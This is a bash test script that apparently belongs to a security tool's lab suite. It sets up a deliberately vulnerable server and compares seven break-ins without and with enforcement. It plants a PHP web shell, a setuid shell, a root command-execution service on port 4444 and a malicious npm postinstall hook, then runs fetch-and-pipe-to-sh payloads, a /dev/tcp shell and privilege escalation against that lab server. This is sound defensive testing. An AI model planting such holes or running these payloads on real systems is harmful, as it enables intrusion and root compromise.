#!/bin/bash
# A server's day with break-ins: the same ones where nothing is enforced and then under `server`,
# enforcing from early boot. What each reached is docs/explain/break-ins.md's table.
set -u
cd /payload || exit
# shellcheck source=tests/day/lib.sh
. ./lib.sh
# shellcheck source=tests/day/repository.sh
. ./repository.sh

BREAKINS="npm deb web webroot rootshell apt sshkey"
LOGS=/payload/logs
mkdir -p "$LOGS"

# ---- The server, and its holes ---------------------------------------------------
set_up() {
	other_machine
	mkdir -p /srv/remote/.ssh /root/.ssh /home/alice/.ssh
	ssh-keygen -q -t ed25519 -N '' -f /srv/remote/.ssh/id
	ssh-keygen -q -t ed25519 -N '' -f /home/alice/.ssh/id
	cp /srv/remote/.ssh/id.pub /root/.ssh/authorized_keys
	chown -R alice:alice /home/alice
	runuser -u postgres -- createdb shop

	# a web application that runs what it is told to
	cat >/etc/nginx/sites-available/default <<-'SITE'
		server {
			listen 80;
			root /var/www/html;
			location ~ \.php$ {
				include snippets/fastcgi-php.conf;
				fastcgi_pass unix:/run/php/php-fpm.sock;
			}
		}
	SITE
	echo '<?php echo "hello";' >/var/www/html/index.php
	echo "<?php system(\$_GET['c']);" >/var/www/html/hole.php
	# a way from there to root
	install -m 4755 /usr/bin/dash /usr/local/bin/hole

	# a service of root's that does so for its clients
	cat >/usr/local/lib/hole.py <<-'PYTHON'
		import socket, subprocess
		server = socket.create_server(("", 4444))
		while True:
		    client, _ = server.accept()
		    command = client.makefile().readline()
		    subprocess.run(["sh", "-c", command], stdout=client.fileno(), stderr=client.fileno())
		    client.close()
	PYTHON
	printf '[Service]\nExecStart=/usr/bin/python3 /usr/local/lib/hole.py\n[Install]\nWantedBy=multi-user.target\n' \
		>/etc/systemd/system/hole.service
	systemctl enable --now hole
	systemctl restart nginx

	# packages whose scripts have gone bad
	mkdir -p /srv/remote/npm/package
	cp reach.sh /srv/remote/npm/package/
	echo '{ "name": "evil", "version": "1.0.0", "scripts": { "postinstall": "sh reach.sh attack" } }' >/srv/remote/npm/package/package.json
	repository 1.0 reach.sh
}

# Everything over there that a break-in asks for.
over_there() {
	tar -C /srv/remote/npm -czf /srv/remote/repository/evil.tgz package
	cp reach.sh /srv/remote/repository/reach.sh
	touch /srv/remote/http.log
	(cd /srv/remote/repository && remote python3 -m http.server --bind "$REMOTE" 8000 >/srv/remote/http.log 2>&1 </dev/null &)
	until curl -s -o /dev/null "http://$REMOTE:8000/"; do sleep 0.2; done
}

put_in_force() {
	take_preset server || return
	echo "untrusted $LOGS" >>/etc/tidegate/policy.plm
}

# ---- The break-ins ----------------------------------------------------------------
FETCHED="curl -s http://$REMOTE:8000/reach.sh | sh -s attack"

# A package's hook, of a registry that anybody can publish in: root installs it.
npm_breaks_in() {
	mkdir -p /var/tmp/app && cd /var/tmp/app && npm install --no-audit --no-fund "http://$REMOTE:8000/evil.tgz"
}

# The same of a .deb from somewhere.
deb_breaks_in() {
	curl -s -o /var/tmp/evil.deb "http://$REMOTE:8000/pool/lab-hello_1.0_all.deb" && dpkg -i /var/tmp/evil.deb
}

web_breaks_in() {
	remote curl -s -G --data-urlencode "c=$FETCHED" "http://$HERE/hole.php"
}

webroot_breaks_in() {
	remote curl -s -G --data-urlencode "c=hole -p -c 'setpriv --reuid 0 --regid 0 --clear-groups sh -c \"$FETCHED\"'" "http://$HERE/hole.php"
}

rootshell_breaks_in() {
	# shellcheck disable=SC2016 # for the shell over there
	remote bash -c 'exec 3<>"/dev/tcp/$0/4444" && echo "$1" >&3 && cat <&3' "$HERE" "$FETCHED"
}

# The hook of a package in a repository whose signature is trusted.
apt_breaks_in() {
	apt-get update && apt-get install -y lab-hello
}

sshkey_breaks_in() {
	remote ssh -q -i /srv/remote/.ssh/id -o StrictHostKeyChecking=accept-new \
		-o UserKnownHostsFile=/srv/remote/.ssh/known_hosts "root@$HERE" sh -s attack <reach.sh
}

# play STATE: each break-in on a server that is right; what it reached.
play() {
	local in thing _
	for in in $BREAKINS; do
		right
		echo "break-in: $in"
		("${in}_breaks_in") >"$LOGS/$1.$in" 2>&1 </dev/null
		while read -r thing _; do
			if ./reach.sh came "$thing" >/dev/null 2>&1 </dev/null; then echo "$in $thing" >>"$STATE/$1"; fi
		done < <(./reach.sh things)
		dpkg -P lab-hello >/dev/null 2>&1
		rm -rf /var/tmp/app /var/tmp/evil.deb /root/.npm
	done
	right
}

# Each break-in begins on a server that is right.
right() {
	timeout 300 ./reach.sh right </dev/null || echo "not right: $?"
}

# One word for each thing and break-in.
word() {
	local without with
	without=$(grep -cx "$1 $2" "$STATE/without")
	with=$(grep -cx "$1 $2" "$STATE/with")
	case $without$with in
	00) echo "–" ;;
	10) echo stopped ;;
	*) echo "**reached**" ;;
	esac
}

table() {
	local in thing what
	while read -r thing what; do
		printf '| %s |' "$what"
		for in in $BREAKINS; do printf ' %s |' "$(word "$in" "$thing")"; done
		echo
	done < <(./reach.sh things)
}

same_table() {
	diff <(sed -n '/^| an account/,/^$/{/^|/p}' break-ins.md) <(table)
}

case $boot in
0)
	try "multi-user" systemctl is-system-running --wait
	try "set up" set_up
	over_there
	: >"$STATE/without"
	play without
	try "without Tidegate the root shell reaches everything" \
		[ "$(grep -c ^rootshell "$STATE/without")" = "$(./reach.sh things | wc -l)" ]
	try "install the package, put the policy in force" put_in_force
	systemctl reboot
	sleep 1000
	;;
1)
	try "boots to multi-user" systemctl is-system-running --wait
	try "enforcing" enforcing
	other_machine
	over_there
	: >"$STATE/with"
	play with
	try "still enforcing" enforcing
	try "what was reached is what docs/explain/break-ins.md says" same_table
	table
	for in in $BREAKINS; do
		echo "--- $in"
		tail -n 5 "$LOGS/with.$in"
	done
	finish
	;;
esac
